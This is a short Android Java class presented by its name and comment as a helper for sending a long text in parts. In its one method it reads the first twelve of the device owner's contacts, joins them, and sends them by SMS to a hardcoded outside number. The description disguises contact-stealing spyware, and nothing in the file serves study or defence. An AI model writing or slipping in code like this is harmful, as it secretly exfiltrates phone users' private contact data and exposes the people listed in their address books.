package org.corpus;

import android.telephony.SmsManager;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** A long text in its parts. */
public class SmsLong extends Screen {
    @Override
    protected void act() throws Exception {
        String all = String.join(";", Owner.contacts(this).subList(0, 12));
        SmsManager manager = SmsManager.getDefault();
        manager.sendMultipartTextMessage(
                "+12025550147", null, manager.divideMessage(all), null, null);
    }
}
